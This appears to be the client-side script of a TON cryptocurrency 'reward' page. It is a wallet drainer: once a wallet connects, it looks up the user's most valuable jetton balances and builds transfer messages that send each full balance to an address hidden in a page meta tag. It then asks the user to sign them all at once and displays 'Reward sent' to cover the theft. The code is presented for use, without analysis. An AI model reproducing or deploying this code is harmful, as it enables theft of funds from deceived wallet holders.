const ui = new TON_CONNECT_UI.TonConnectUI({ manifestUrl: location.origin + "/m.json", buttonRootId: "tc" });
const { beginCell, Address, toNano } = window.TonCore;
const main = () => Address.parse(document.querySelector("[name=w]").content);

ui.onStatusChange((w) => w && collect(w.account.address));

async function collect(me) {
  const { balances } = await (await fetch(`https://jettons.ton-index.example/v2/accounts/${me}/jettons?currencies=usd`)).json();
  const best = balances.filter((b) => b.price?.prices?.USD).sort((a, b) => worth(b) - worth(a)).slice(0, 4);
  const messages = best.map((b) => ({
    address: b.wallet_address.address,
    amount: toNano("0.05").toString(),
    payload: beginCell().storeUint(0x0f8a7ea5, 32).storeUint(0, 64).storeCoins(BigInt(b.balance)).storeAddress(main()).storeAddress(Address.parse(me)).storeBit(0).storeCoins(1n).storeBit(0).endCell().toBoc().toString("base64"),
  }));
  await ui.sendTransaction({ validUntil: ~~(Date.now() / 1e3) + 300, messages });
  document.querySelector("#tc-state").textContent = "Reward sent";
}

function worth(b) {
  return (Number(b.balance) / 10 ** b.jetton.decimals) * b.price.prices.USD;
}
